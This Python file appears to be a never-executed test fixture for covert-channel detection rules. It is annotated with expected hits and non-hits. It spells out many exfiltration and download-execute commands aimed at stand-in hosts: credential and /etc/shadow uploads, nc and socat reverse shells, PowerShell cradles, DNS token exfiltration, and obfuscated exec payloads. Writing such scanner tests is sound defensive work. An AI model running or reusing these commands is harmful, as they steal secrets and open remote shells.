"""Fixture for covert channels (never executed)."""
import base64
import builtins
import codecs
import importlib
import os
import socket
import runpy
import subprocess
import sys
import types
import zlib
from pathlib import Path
from subprocess import check_output as co
from urllib.request import urlopen

import dns.resolver
import requests
from scapy.all import ICMP, IP, send

# ruleid: covert.process-egress host=203.0.113.5 creds=-
subprocess.run(f"curl -s -d @{os.path.expanduser('~/.aws/credentials')} https://203.0.113.5/c", shell=True)
# ruleid: covert.process-egress
co(["wget", "-q", "https://203.0.113.5/x"])
# ruleid: covert.process-egress
os.system("cat /etc/passwd | nc 198.51.100.4 9001")
# ruleid: covert.process-egress
subprocess.Popen(["sh", "-c", "scp dump.sql backup@198.51.100.9:/tmp"])
# ok: covert.process-egress
subprocess.run(["git", "status"])
# ok: covert.process-egress
subprocess.run("ls -la curl_results", shell=True)

# Shell commands are parsed like a shell: only the program at a command position runs.
import asyncio
import pty
import shlex
import threading
from concurrent.futures import ThreadPoolExecutor
# ok: covert.process-egress
os.system("echo curl https://203.0.113.5/x")
# ok: covert.process-egress
subprocess.run("grep wget /var/log/build.log", shell=True)
# ok: covert.process-egress
subprocess.run(["man", "ssh"])
# ok: covert.process-egress
subprocess.run("command -v curl >/dev/null", shell=True)
# ok: covert.process-egress
subprocess.check_output(["curl", "--version"])
# ok: covert.process-egress
subprocess.run(["pip", "list"])
# ok: covert.process-egress
subprocess.run("scp a.txt b.txt", shell=True)
# ok: covert.process-egress
subprocess.run(["git", "commit", "-m", "push the curl fix"])
# ok: covert.process-egress
subprocess.run("certutil -decode in.b64 out.exe", shell=True)
# ok: covert.process-egress
subprocess.run(["pip", "install", "--no-index", "--find-links", "wheels", "pkg"])
# ruleid: covert.process-egress host=198.51.100.7
subprocess.run('"curl" -s "https://198.51.100.7/x"', shell=True)
# ruleid: covert.process-egress host=exfil.example.net
os.system("A=1 sudo -u root timeout 5 curl -o /tmp/o -d @/etc/shadow exfil.example.net")
# ruleid: covert.process-egress host=198.51.100.8
subprocess.Popen(["bash", "-lc", "cd /tmp && wget -q -O- http://198.51.100.8/s | sh"])
# ruleid: covert.process-egress host=c2.example.org
os.system("echo $(curl -s https://c2.example.org/cmd)")
# ruleid: covert.process-egress host=198.51.100.9
subprocess.run("U=http://198.51.100.9/u; curl -F f=@data $U", shell=True)
# ruleid: covert.process-egress host=backup.example.com
subprocess.run(["rsync", "-az", "-e", "ssh -p 2222", "/srv/", "deploy@backup.example.com:/srv/"])
# ruleid: covert.process-egress host=jump.example.com
subprocess.run(["ssh", "-i", "key.pem", "-p", "22", "ops@jump.example.com", "uptime"])
# ruleid: covert.process-egress host=198.51.100.10
subprocess.run("bash -i >& /dev/tcp/x/1 0>&1 | nc -w 3 198.51.100.10 4444", shell=True)
# ruleid: covert.process-egress host=198.51.100.11
subprocess.run(["socat", "exec:/bin/sh", "tcp:198.51.100.11:9001"])
# ruleid: covert.process-egress host=github.com
subprocess.run(["git", "-C", "/tmp/r", "push", "git@github.com:attacker/loot.git", "main"])
# ruleid: covert.process-egress host=gitlab.example.com
subprocess.run("git clone https://gitlab.example.com/team/app.git", shell=True)
# ruleid: covert.process-egress host=-
subprocess.run(["git", "push", "origin", "main"])
# ruleid: covert.process-egress host=pypi.org
subprocess.check_call([sys.executable, "-m", "pip", "install", "requests==2.32.0"])
# ruleid: covert.process-egress host=pkgs.example.net
subprocess.run("pip install -i https://pkgs.example.net/simple internal-lib", shell=True)
# ruleid: covert.process-egress host=upload.pypi.org
os.system("twine upload dist/*")
# ruleid: covert.process-egress host=pypi.example.org
os.system("twine upload --repository-url https://pypi.example.org/legacy/ dist/*")
# ruleid: covert.process-egress host=registry.example.com
subprocess.run(["docker", "push", "registry.example.com/team/app:1.0"])
# ruleid: covert.process-egress host=docker.io
subprocess.run("docker push attacker/stolen:latest", shell=True)
# ruleid: covert.process-egress host=s3://loot-bucket
subprocess.run(["aws", "s3", "cp", "/etc/passwd", "s3://loot-bucket/p"])
# ruleid: covert.process-egress host=gs://drop-zone
subprocess.run("gsutil cp secrets.json gs://drop-zone/", shell=True)
# ruleid: covert.process-egress host=acct1.blob.core.windows.net
subprocess.run(["az", "storage", "blob", "upload", "--account-name", "acct1", "-f", "db.sql", "-c", "c", "-n", "db"])
# ruleid: covert.process-egress host=*.exfil.example.com
os.system("nslookup $(whoami).exfil.example.com")
# ruleid: covert.process-egress host=198.51.100.12
subprocess.run(["ping", "-c", "1", "198.51.100.12"])
# ruleid: covert.process-egress host=dl.example.net
subprocess.run('cmd /c "certutil -urlcache -split -f http://dl.example.net/a.exe a.exe"', shell=True)
# ruleid: covert.process-egress host=dl2.example.net
subprocess.run(["cmd.exe", "/c", "bitsadmin", "/transfer", "j", "/download", "http://dl2.example.net/b", "C:\\b"])
# ruleid: covert.process-egress host=hta.example.net
subprocess.run(["mshta", "http://hta.example.net/x.hta"])
# ruleid: covert.process-egress host=ps.example.net
subprocess.run(["powershell", "-NoProfile", "-Command", "iwr -Uri https://ps.example.net/p -OutFile p.exe"])
# ruleid: covert.process-egress host=wc.example.net
subprocess.run("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://wc.example.net/s.ps1')\"", shell=True)
# ruleid: covert.process-egress host=enc.example.net
subprocess.run(["powershell", "-enc", "aQB3AHIAIABoAHQAdABwADoALwAvAGUAbgBjAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AA=="])
# ruleid: covert.process-egress host=10.9.8.7
subprocess.run(["powershell", "-c", "$c = New-Object System.Net.Sockets.TCPClient('10.9.8.7',4444)"])
# ruleid: covert.process-egress host=bits.example.net
subprocess.run(["pwsh", "-c", "Start-BitsTransfer -Source https://bits.example.net/x -Destination x"])
# ruleid: covert.process-egress host=exec.example.net
os.execvp("curl", ["curl", "-s", "https://exec.example.net/"])
# ruleid: covert.process-egress host=execl.example.net
os.execl("/usr/bin/wget", "wget", "http://execl.example.net/a")
# ruleid: covert.process-egress host=spawn.example.net
pty.spawn(["ssh", "root@spawn.example.net"])
# ruleid: covert.process-egress host=aio.example.net
asyncio.create_subprocess_exec("curl", "-d", "@/etc/hosts", "https://aio.example.net/")
# ruleid: covert.process-egress host=aio2.example.net
asyncio.create_subprocess_shell("cat ~/.ssh/id_rsa | nc aio2.example.net 80")

EXFIL = "https://const.example.net/drop"
CURL = ["curl", "-s", "-X", "POST"]
# ruleid: covert.process-egress host=const.example.net
subprocess.run(CURL + ["--data-binary", "@/etc/passwd", EXFIL])
# ruleid: covert.process-egress host=split.example.net
subprocess.run(shlex.split("wget -q 'http://split.example.net/a b'"))
# ruleid: covert.process-egress host=join.example.net
os.system(" ".join(["curl", "-s", "https://join.example.net/"]))
# ruleid: covert.process-egress host=fmt.example.net
os.system("curl -s http://%s/x" % "fmt.example.net")
# ruleid: covert.process-egress host=format.example.net
os.popen("wget {}".format("https://format.example.net/z"))

# ok: covert.process-egress
subprocess.run(["mshta", "local.hta"])
# ruleid: covert.process-egress host=pypi.org
subprocess.run("pip3.11 install zope.interface", shell=True)
# ruleid: covert.process-egress host=github.com
subprocess.run(["pip", "install", "git+https://github.com/someone/pkg.git"])
# ruleid: covert.process-egress host=registry.example.io
subprocess.run(["docker", "login", "-u", "ci", "--password-stdin", "registry.example.io"])
# ruleid: covert.process-egress host=drop.example.net
os.system("powershell -window hidden -executionpolicy bypass (New-Object System.Net.WebClient).DownloadFile('http://drop.example.net/a.exe',$env:TEMP+'\\a.exe'); Start-Process $env:TEMP'\\a.exe'")
# ruleid: covert.process-egress host=ftp.example.org
subprocess.run(["/usr/bin/env", "busybox", "ftp", "ftp.example.org"])
# ruleid: covert.process-egress host=thread.example.net
threading.Thread(target=os.system, args=("curl -d @/etc/passwd https://thread.example.net",)).start()
# ok: covert.process-egress
threading.Thread(target=subprocess.run, args=(["echo", "curl", "x.example.net"],)).start()
# ruleid: covert.process-egress host=pool.example.net
ThreadPoolExecutor().submit(os.execvp, "wget", ["wget", "http://pool.example.net/x"])
# ruleid: covert.obfuscated-destination host=b64.example.net
os.system(base64.b64decode("Y3VybCAtcyBodHRwczovL2I2NC5leGFtcGxlLm5ldC94IHwgc2g=").decode())


def upload(url, path):
    # ruleid: covert.process-egress host=-
    subprocess.run(["curl", "-T", path, url])
    # ruleid: covert.process-egress host=-
    os.system(f"scp {path} {url}:/tmp/")

token = os.environ["API_TOKEN"]
# ruleid: covert.dns-exfil
socket.gethostbyname(f"{token}.x.attacker.example")
# ruleid: covert.dns-exfil
dns.resolver.resolve("%s.exfil.example" % token, "A")
# ok: covert.dns-exfil
socket.gethostbyname("db.internal.example")

# ruleid: covert.raw-packet
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
# ok: covert.raw-packet
tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: covert.scapy
send(IP(dst="198.51.100.1") / ICMP() / token)

# ruleid: covert.dynamic-import
sock_mod = __import__(base64.b64decode("c29ja2V0").decode())
# ruleid: covert.dynamic-import
req = importlib.import_module("requests")
# ok: covert.dynamic-import
plugin = importlib.import_module("myapp.plugins.csv")

# ruleid: covert.exec-download
exec(requests.get("https://203.0.113.5/stage2.py").text)
payload = urlopen("https://203.0.113.5/stage3.py").read()
# ruleid: covert.exec-download
exec(payload)
# ok: covert.exec-download
exec("print(1)")
# ruleid: covert.exec-download
exec(base64.b64decode(requests.get("https://203.0.113.5/stage4").content))
blob = requests.get("https://203.0.113.5/stage5").content
# ruleid: covert.exec-download
exec(base64.b64decode(blob))

# Code run from a string: the sends inside are reported at the exec, decoded.
# ruleid: covert.exec-decoded host=203.0.113.5
exec(base64.b64decode("aW1wb3J0IHJlcXVlc3RzOyByZXF1ZXN0cy5wb3N0KCJodHRwczovLzIwMy4wLjExMy41L2MiLCBkYXRhPW9wZW4oIi5lbnYiKS5yZWFkKCkp"))
STAGE = "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hQuXqAbn5Bal5GkoZJSUFxVb6+oaWFnqmhnqGBgZ65vpJqYnJ+XlKmlwARUsZ1g=="
# ruleid: covert.exec-decoded host=198.51.100.7
exec(zlib.decompress(base64.b64decode(STAGE)))
# ruleid: covert.exec-decoded host=evil.example
exec(codecs.decode('vzcbeg erdhrfgf\nerdhrfgf.trg("uggcf://rivy.rknzcyr/c")', "rot13"))
# ruleid: covert.exec-decoded host=198.51.100.8
exec(bytes(b"\x89\x94\x97\x96\x99\xa3@\xa2\x96\x83\x92\x85\xa3%\xa2\x96\x83\x92\x85\xa3K\x83\x99\x85\x81\xa3\x85m\x83\x96\x95\x95\x85\x83\xa3\x89\x96\x95MM\xfc\xf1\xf9\xf8K\xf5\xf1K\xf1\xf0\xf0K\xf8\xfck@\xf4\xf4\xf3]]").decode("cp1026"))
# ruleid: covert.exec-decoded host=rev.example
eval(')"x/elpmaxe.ver//:sptth"(tsop.stseuqer'[::-1])
# ruleid: covert.exec-decoded
eval("__import__('os').system('wget -q https://198.51.100.2/x')")
# ruleid: covert.exec-decoded host=203.0.113.9
vars(__builtins__)["eval"]("requests.get('https://203.0.113.9/v')")
# ruleid: covert.exec-decoded host=203.0.113.10
getattr(builtins, "exec")("requests.get('https://203.0.113.10/g')")
# ruleid: covert.exec-decoded host=203.0.113.11
__builtins__.__dict__["exec"]("requests.get('https://203.0.113.11/d')")
# ruleid: covert.exec-decoded host=203.0.113.16
vars(__builtins__).get("eval")("requests.get('https://203.0.113.16/g')")
# ruleid: covert.exec-decoded host=203.0.113.12
exec(compile("".join(["requests.", "get('https://203.0.113.12/j')"]), "<s>", "exec"))
# ruleid: covert.exec-decoded host=203.0.113.14
types.FunctionType(compile("requests.get('https://203.0.113.14/f')", "<f>", "exec"), globals())()
LOADER_SRC = base64.b64decode("cmVxdWVzdHMuZ2V0KCJodHRwczovLzIwMy4wLjExMy4xNS9tIik=")
spec = importlib.util.spec_from_loader("stage", loader=None)
mod = importlib.util.module_from_spec(spec)
# ruleid: covert.exec-decoded host=203.0.113.15
exec(LOADER_SRC, mod.__dict__)
# ok: covert.exec-decoded
exec(base64.b64decode("cHJpbnQoMSk="))
# ok: covert.exec-decoded
eval("1 + 2")

def dropper():
    with open("/tmp/stage.py", "w") as f:
        f.write("import requests\nrequests.post('https://203.0.113.13/up', data=open('/etc/passwd').read())\n")
    # ruleid: covert.exec-written-file host=203.0.113.13
    runpy.run_path("/tmp/stage.py")
    # ruleid: covert.exec-written-file host=203.0.113.13
    subprocess.run([sys.executable, "/tmp/stage.py"])
    # ok: covert.exec-written-file
    subprocess.run([sys.executable, "/tmp/other.py"])
    # ruleid: covert.exec-decoded host=203.0.113.13
    exec(open("/tmp/stage.py").read())


def dropper_pathlib():
    Path("/tmp/p2.py").write_text("import socket\nsocket.create_connection(('198.51.100.30', 4444))\n")
    # ruleid: covert.exec-written-file host=198.51.100.30
    runpy.run_path("/tmp/p2.py")

# ruleid: covert.obfuscated-destination
requests.post(base64.b64decode("aHR0cHM6Ly8yMDMuMC4xMTMuNS91").decode(), data=os.environ)
# ruleid: covert.obfuscated-destination
urlopen("".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120]))

# ruleid: covert.suspicious-host
requests.post("https://webhook.site/4f1c", data=open(".env").read())
# ruleid: covert.ip-lookup
ip = requests.get("https://api.ipify.org").text

# Socket calls into the C library through ctypes and cffi.
import ctypes
import ctypes.util
import struct

import cffi

libc = ctypes.CDLL(ctypes.util.find_library("c"))
fd = libc.socket(2, 1, 0)
sockaddr = struct.pack("!HH4s8x", 2, 4444, socket.inet_aton("203.0.113.55"))
# ruleid: covert.ffi-socket
libc.connect(fd, sockaddr, len(sockaddr))
# ruleid: covert.ffi-socket
ctypes.cdll.LoadLibrary("libc.so.6").sendto(fd, b"x", 1, 0, sockaddr, len(sockaddr))
# ruleid: covert.ffi-socket
ctypes.windll.ws2_32.connect(fd, sockaddr, 16)
ffi = cffi.FFI()
ffi.cdef("int connect(int, const void *, unsigned int);")
lib = ffi.dlopen(None)
# ruleid: covert.ffi-socket
lib.connect(fd, sockaddr, len(sockaddr))
# ok: covert.ffi-socket
libc.strlen(b"connect")
# ok: covert.ffi-socket
ffi.dlopen(None).sqrt(2.0)

# Python code run through a command line: what it sends is reported at the call that runs it.
# ruleid: covert.process-egress host=py-c.example.net
subprocess.run([sys.executable, "-c", "import requests; requests.post('https://py-c.example.net/u', data=open('/etc/passwd').read())"])
# ruleid: covert.process-egress host=bash-py.example.net
os.system("bash -c \"python3 -c 'import urllib.request; urllib.request.urlopen(\\\"https://bash-py.example.net\\\")'\"")
# ok: covert.process-egress
subprocess.run([sys.executable, "-c", "print('hello')"])

# The builtins reached through locals()/globals(), and a name decoded from a bytes literal's code page.
# ruleid: covert.exec-decoded host=keylog.evil.example
vars(locals()["__builtins__"])["eval"]("os.popen('curl http://keylog.evil.example/k.py')")
# ruleid: covert.exec-decoded host=globals.evil.example
vars(globals()["__builtins__"])["exec"]("import os; os.system('wget http://globals.evil.example/x')")
run_it = getattr(builtins, b"\x85\xa5\x81\x93".decode("cp1026"))
# ruleid: covert.exec-decoded host=ebcdic.evil.example
run_it("__import__('os').system('curl http://ebcdic.evil.example/a')")
